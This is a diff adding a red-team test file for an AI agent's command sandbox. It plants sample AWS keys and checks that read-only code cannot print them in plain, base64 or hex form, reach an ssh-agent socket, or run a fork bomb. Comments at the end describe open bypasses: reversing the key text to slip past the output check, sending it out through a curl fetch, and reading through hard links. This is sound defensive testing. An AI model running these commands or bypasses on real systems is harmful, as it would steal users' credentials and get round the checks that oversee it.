@@ -1,0 +1,168 @@
+// Red team 2 on code run without a card (read-only code): what such a run prints reaches the
+// model, so a credential kept under an ordinary name must not come out of it, plainly or in the
+// encodings any program has at hand; and such a run cannot crowd the machine with processes.
+// Real pipeline, real files, real bubblewrap: each run is decided on a harmless line and given
+// the hostile one, so what holds is the sandbox and the output check, not a reading of the text.
+import { execFileSync } from 'node:child_process';
+import { mkdir, rm, symlink, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { createServer } from 'node:net';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import type { Pipeline } from '../../runtime/pipeline/pipeline.ts';
+import { makeTempDir } from '../executors/make-context.ts';
+import { call, pipelineWith } from './pipeline-helpers.ts';
+import { plant } from './planted-files.ts';
+
+const home = process.env.HOME ?? '';
+let project: string;
+let pipeline: Pipeline;
+
+beforeEach(async () => {
+  project = await makeTempDir('app-');
+  execFileSync('git', ['init', '-q', project]);
+  await writeFile(join(project, 'package.json'), '{"version":"1.2.3"}\n');
+  pipeline = await pipelineWith(
+    { roots: { write: ['~', '/tmp'] } },
+    { ...process.env, XDG_STATE_HOME: await makeTempDir('state-') },
+  );
+});
+afterEach(() => {
+  pipeline.close();
+});
+
+/** Decide `decided` (read-only code without a card), run `ran` under that grant; its result. */
+async function runReadOnly(decided: string, ran: string): Promise<Record<string, unknown>> {
+  const outcome = await pipeline.evaluate(call('shell_exec', { command: decided, cwd: project }));
+  expect(outcome, decided).toMatchObject({ decision: 'allow', grant: { tier: 'read-only-code' } });
+  const result = await pipeline.invoke(
+    { ...outcome, args: { command: ran, cwd: project } },
+    new AbortController().signal,
+  );
+  expect(result).toMatchObject({ ok: true });
+  return result.ok ? (result.result as Record<string, unknown>) : {};
+}
+
+const AWS_ID = 'AKIAIOSFODNN7EXAMPLE';
+const AWS_SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
+const KEYS = `aws_access_key_id = ${AWS_ID}\naws_secret_access_key = ${AWS_SECRET}\n`;
+
+/** A stretch from the last quarter of `encoded` (the secret key's part of the file). */
+function secretPart(encoded: string): string {
+  const at = Math.floor((encoded.length * 3) / 4);
+  return encoded.slice(at, at + 12);
+}
+
+const b64 = (text: string): string => Buffer.from(text).toString('base64');
+const hex = (text: string): string => Buffer.from(text).toString('hex');
+
+/** What a run printed, without the line breaks an encoder wraps its output with. */
+const printed = (result: Record<string, unknown>): string =>
+  String(result.stdout).replace(/\s/g, '');
+
+describe('a credential kept under an ordinary name (~/notes/keys.txt)', () => {
+  it('does not come out of read-only code plainly, in base64 (one line or wrapped) or in hex', async () => {
+    await plant(join(home, 'notes', 'keys.txt'), KEYS);
+    const file = `open(os.environ['HOME']+'/notes/keys.txt','rb').read()`;
+    const urlSafe = b64(KEYS).replace(/\+/g, '-').replace(/\//g, '_');
+    const lines: readonly (readonly [string, string])[] = [
+      [`python3 -c "import os; print(${file}.decode())"`, AWS_SECRET],
+      [`python3 -c "import base64,os; print(base64.b64encode(${file}).decode())"`, b64(KEYS)],
+      [`python3 -c "import base64,os; print(base64.encodebytes(${file}).decode())"`, b64(KEYS)],
+      [`python3 -c "import base64,os; print(base64.urlsafe_b64encode(${file}).decode())"`, urlSafe],
+      [`python3 -c "import os; print(${file}.hex())"`, hex(KEYS)],
+      [
+        `python3 -c "import base64,os; print(base64.b64encode(base64.b64encode(${file})).decode())"`,
+        b64(b64(KEYS)),
+      ],
+      ['base64 ~/notes/keys.txt', b64(KEYS)],
+      ['xxd -p ~/notes/keys.txt', hex(KEYS)],
+      ['od -An -tx1 ~/notes/keys.txt', hex(KEYS)],
+    ];
+    for (const [line, encoded] of lines) {
+      const result = await runReadOnly('python3 -c "print(1)"', line);
+      expect(result.exit_code, line).toBe(0);
+      expect(printed(result), line).not.toContain(AWS_SECRET);
+      expect(printed(result), line).not.toContain(secretPart(encoded));
+    }
+  });
+});
+
+describe('a store whose files are links (stow: ~/.aws/credentials -> ~/dotfiles/aws/credentials)', () => {
+  it('does not show read-only code the file a store links to, in any form', async () => {
+    const target = join(home, 'dotfiles-rt2', 'aws', 'credentials');
+    await plant(target, 'aws_secret_access_key = PLANTEDLINKEDSECRET\n');
+    await mkdir(join(home, '.aws'), { recursive: true });
+    const link = join(home, '.aws', 'credentials');
+    await rm(link, { force: true });
+    await symlink(target, link);
+    // Printed backwards: no output check can know it, only the sandbox can hide the file.
+    const result = await runReadOnly(
+      'python3 -c "print(1)"',
+      `python3 -c "import os; print(open(os.environ['HOME']+'/dotfiles-rt2/aws/credentials').read()[::-1])"`,
+    );
+    expect(String(result.stdout)).not.toContain('DETNALP');
+    await rm(link);
+  });
+});
+
+describe('a unix socket elsewhere in the home (an ssh agent: ~/.1password/agent.sock)', () => {
+  it('cannot be reached by code run without a card, and is reached once a person approves', async () => {
+    const socket = join(home, '.1password', 'agent.sock');
+    await mkdir(join(home, '.1password'), { recursive: true });
+    await rm(socket, { force: true });
+    const server = createServer((connection) => connection.end('hello'));
+    await new Promise<void>((done) => server.listen(socket, done));
+    try {
+      const connect = `node -e "require('node:net').connect(process.argv[1]).on('data', (d) => console.log('reached', String(d))).on('error', (e) => console.log('refused', e.code))" ${socket}`;
+      const hidden = await runReadOnly('node -e "1"', connect);
+      expect(String(hidden.stdout)).toMatch(/^refused/);
+      const approved = await pipeline.evaluate(
+        call('shell_exec', { command: connect, cwd: project }, 'agent', { approvedBy: 'local:1' }),
+      );
+      const reached = await pipeline.invoke(approved, new AbortController().signal);
+      expect(reached).toMatchObject({ ok: true, result: { stdout: 'reached hello\n' } });
+    } finally {
+      await new Promise((done) => server.close(done));
+    }
+  });
+});
+
+describe('processes of code run without a card', () => {
+  it('cannot start more than sandbox.uncarded_max_processes (a fork bomb in an unreviewed Makefile or test stops there)', async () => {
+    pipeline.close();
+    pipeline = await pipelineWith(
+      { roots: { write: ['~', '/tmp'] }, sandbox: { uncarded_max_processes: 64 } },
+      { ...process.env, XDG_STATE_HOME: await makeTempDir('state-') },
+    );
+    // 200 children that wait a moment: the limit, not the end of the run, stops the forks.
+    const forks = `python3 -c "
+import os, time
+children = 0
+for _ in range(200):
+    try:
+        pid = os.fork()
+    except OSError:
+        break
+    if pid == 0:
+        time.sleep(2)
+        os._exit(0)
+    children += 1
+print(children)"`;
+    const result = await runReadOnly('python3 -c "print(1)"', forks);
+    expect(Number(result.stdout)).toBeGreaterThan(0);
+    expect(Number(result.stdout)).toBeLessThan(64);
+  });
+});
+
+describe('open after red team 2 (docs/notes/2026-11-26-s5/redteam2.md)', () => {
+  // Seen in real runs: read-only code prints ~/notes/keys.txt reversed (no output check can know
+  // it), and `curl -fsSL https://host/<that text>` then runs without a card (fetch tier). Every
+  // file readable without a card can be sent out this way; the content check only holds plain,
+  // base64 and hex forms.
+  it.todo(
+    'a credential under an ordinary name cannot leave through read-only code that transforms it and a fetch',
+  );
+  // The path check knows a hard link to a store file (hardLinkProtection); the sandbox masks
+  // only names, so code that opens the other name reads the key.
+  it.todo('read-only code cannot read a store file through a hard link elsewhere in the home');
+});
